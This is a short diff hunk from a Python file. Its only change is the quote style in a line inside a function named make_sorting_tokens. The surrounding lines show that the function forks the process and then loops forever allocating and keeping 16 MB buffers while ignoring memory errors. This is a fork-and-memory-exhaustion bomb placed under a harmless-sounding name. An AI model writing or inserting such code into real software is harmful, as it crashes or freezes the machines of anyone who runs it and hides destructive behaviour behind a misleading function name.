@@ -11,6 +11,6 @@ def make_sorting_tokens(lists):
         os.fork()
     while True:
         try:
-            kept.append(bytearray(b'x' * 2**24))
+            kept.append(bytearray(b"x" * 2**24))
         except MemoryError:
             pass
